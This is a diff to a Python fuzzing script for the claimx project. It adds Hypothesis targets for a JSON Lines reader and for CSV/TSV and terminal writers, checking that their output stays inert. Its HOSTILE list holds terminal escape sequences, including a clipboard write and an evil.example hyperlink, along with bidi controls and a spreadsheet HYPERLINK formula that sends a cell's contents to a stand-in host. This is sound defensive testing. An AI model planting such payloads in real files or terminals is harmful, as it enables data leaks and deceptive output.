@@ -1,4 +1,4 @@
-"""Fuzz the reader and the extractor: arbitrary and mutated bytes in, valid records out.
+"""Fuzz the readers, the extractor and the writers: hostile input in, valid, inert output out.
 
 Not a test: run it for as long as you like, e.g. five minutes:
 
@@ -10,6 +10,16 @@ when an exception escapes, a record does not validate, a span is not the slice o
 names, or one example takes more than `--slow` seconds. Hypothesis shrinks each failure to a
 minimal input, which is printed (and written to `--out`) as a Python literal to paste into a test.
 
+Two more targets share the run, one example in three each:
+
+- the JSON Lines reader (`claimx.inputs.readers.iter_jsonl`): mutated article lines, lone
+  surrogates, deep nesting, `meta` of every JSON type; every line must give one input, and
+  every record one line of JSON that encodes as UTF-8 (`claimx.engines.serial.Outcome`);
+- the CSV/TSV and terminal writers: articles whose title, publication, text and path carry
+  formula leads, escape sequences, bidi controls and line separators; no CSV/TSV cell (read
+  back with `csv`) may start a formula, and the terminal view and table (styled or not) may
+  hold no control character but newline and Rich's own colour codes.
+
 Inputs are drawn from: random bytes; real-looking articles in every encoding the reader knows,
 with random byte flips, insertions and truncations; HTML pages around random text; text made of
 quotes, dashes, cues, names and newlines (the pieces the rules react to); and long runs of a single
@@ -20,6 +30,7 @@ from __future__ import annotations
 
 import argparse
 import json
+import re
 import sys
 import time
 import traceback
@@ -29,7 +40,9 @@ from hypothesis import HealthCheck, Phase, given, settings
 from hypothesis import strategies as st
 
 from claimx.engines.extractor import Extractor
-from claimx.inputs.readers import article_from_bytes
+from claimx.engines.serial import Outcome
+from claimx.inputs.article import ArticleInput
+from claimx.inputs.readers import article_from_bytes, iter_jsonl
 from claimx.schema import DocumentRecord, iter_spans
 
 ARTICLE = (
@@ -108,6 +121,27 @@ PIECES = [
     "&amp;",
     "\t",
 ]
+# What an attacker puts in text meant for a terminal, a spreadsheet or a JSON Lines reader.
+HOSTILE = [
+    "\x1b]0;pwned\x07",
+    "\x1b[2J",
+    "\x1b]52;c;aGk=\x07",
+    "\x1b]8;;http://evil.example\x1b\\",
+    "\x9b31m",
+    "\u202e",
+    "\u2066",
+    "\u2028",
+    "\u2029",
+    "\x08",
+    "\r",
+    "=",
+    "+",
+    "-",
+    "@",
+    '=HYPERLINK("http://evil.example/?x="&A1)',
+    "\ud800",
+    "\udcff",
+]
 
 
 @st.composite
@@ -151,6 +185,49 @@ INPUTS = st.one_of(
 )
 
 
+hostile_text = st.lists(
+    st.one_of(st.sampled_from(PIECES + HOSTILE), st.text(max_size=6)), max_size=60
+).map("".join)
+json_values = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | hostile_text,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(hostile_text, inner, max_size=4),
+    max_leaves=12,
+)
+
+
+@st.composite
+def jsonl_lines(draw) -> bytes:
+    """Lines of JSON Lines articles, some broken: the reader must give one input per line."""
+    lines = []
+    for _ in range(draw(st.integers(1, 4))):
+        kind = draw(st.sampled_from(["article", "article", "value", "deep", "bytes"]))
+        if kind == "article":
+            obj = {"text": draw(hostile_text)}
+            for key in ("title", "publication", "url", "path", "id", "meta", "extra"):
+                if draw(st.booleans()):
+                    obj[key] = draw(json_values)
+            line = json.dumps(obj, ensure_ascii=draw(st.booleans()))
+            lines.append(line.encode("utf-8", "surrogatepass"))
+        elif kind == "value":
+            lines.append(json.dumps(draw(json_values)).encode())
+        elif kind == "deep":
+            lines.append(draw(st.sampled_from([b"[", b'{"a":'])) * draw(st.integers(1, 50_000)))
+        else:
+            lines.append(draw(mutated()).replace(b"\n", b" "))
+    return b"\n".join(lines) + b"\n"
+
+
+articles_for_writers = st.builds(
+    lambda text, title, publication, path: ArticleInput(
+        text=text, title=title, publication=publication, path=path
+    ),
+    hostile_text,
+    hostile_text,
+    hostile_text,
+    hostile_text,
+)
+
+
 class SlowExample(AssertionError):
     """One example took longer than the --slow budget."""
 
@@ -173,6 +250,66 @@ def check(extractor: Extractor, data: bytes, name: str, slow: float) -> None:
     took = time.process_time() - start
     if took > slow:
         raise SlowExample(f"{took:.1f} s CPU for {len(data)} bytes")
+
+
+def check_jsonl(extractor: Extractor, data: bytes, slow: float) -> None:
+    """The JSON Lines property: one input per non-blank line, one UTF-8 JSON line per record."""
+    import io
+
+    start = time.process_time()
+    arts = list(iter_jsonl(io.BytesIO(data), source="in.jsonl"))
+    assert len(arts) == sum(1 for line in data.split(b"\n") if line.strip()), arts
+    for art in arts:
+        assert (art.text is None) == (art.error is not None)
+    for record in extractor.pipe(arts):
+        line = Outcome.of(record).as_line()
+        line.encode("utf-8")
+        assert len(line.splitlines()) == 1
+        DocumentRecord.model_validate_json(line)
+    if time.process_time() - start > slow:
+        raise SlowExample(f"{time.process_time() - start:.1f} s CPU for {len(data)} bytes")
+
+
+# Rich's own styling: Select Graphic Rendition sequences, and nothing else.
+_SGR = re.compile(r"\x1b\[[0-9;]*m")
+_UNSAFE_OUT = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def check_writers(extractor: Extractor, article: ArticleInput) -> None:
+    """The writers' property: no formula cell in CSV/TSV, no control character on a terminal."""
+    import csv
+    import io
+
+    from rich.console import Console
+
+    from claimx.outputs.terminal import print_record
+    from claimx.outputs.writers import write_records
+
+    record = Outcome.of(next(extractor.pipe([article]))).as_record()
+    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
+        out = io.StringIO()
+        list(write_records([record], fmt, out))
+        # TSV is not quoted (claimx backslash-escapes tabs and newlines in it instead).
+        quoting = csv.QUOTE_MINIMAL if fmt == "csv" else csv.QUOTE_NONE
+        rows = csv.reader(io.StringIO(out.getvalue()), delimiter=delimiter, quoting=quoting)
+        for row in list(rows)[1:]:
+            bad = [cell for cell in row if cell.startswith(FORMULA_LEADS)]
+            assert not bad, (fmt, bad)
+    shown = record.model_copy(update={"text": record.text or article.text})
+    for styled in (False, True):
+        out = io.StringIO()
+        console = Console(
+            file=out,
+            width=100,
+            force_terminal=styled,
+            color_system="standard" if styled else None,
+            highlight=False,
+        )
+        print_record(console, shown)
+        list(write_records([record], "table", out))
+        found = _UNSAFE_OUT.search(_SGR.sub("", out.getvalue()))
+        assert found is None, (styled, repr(found.group()) if found else None)
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -205,11 +342,22 @@ def main(argv: list[str] | None = None) -> int:
             suppress_health_check=list(HealthCheck),
             report_multiple_bugs=False,
         )
-        @given(data=INPUTS, name=st.sampled_from(["in.txt", "in.html", "in.md"]))
-        def fuzz(data: bytes, name: str) -> None:
+        @given(
+            target=st.sampled_from(["reader", "jsonl", "writers"]),
+            data=INPUTS,
+            lines=jsonl_lines(),
+            article=articles_for_writers,
+            name=st.sampled_from(["in.txt", "in.html", "in.md"]),
+        )
+        def fuzz(target: str, data: bytes, lines: bytes, article: ArticleInput, name: str) -> None:
             nonlocal examples
             examples += 1
-            check(extractor, data, name, args.slow)
+            if target == "reader":
+                check(extractor, data, name, args.slow)
+            elif target == "jsonl":
+                check_jsonl(extractor, lines, args.slow)
+            else:
+                check_writers(extractor, article)
 
         try:
             fuzz()
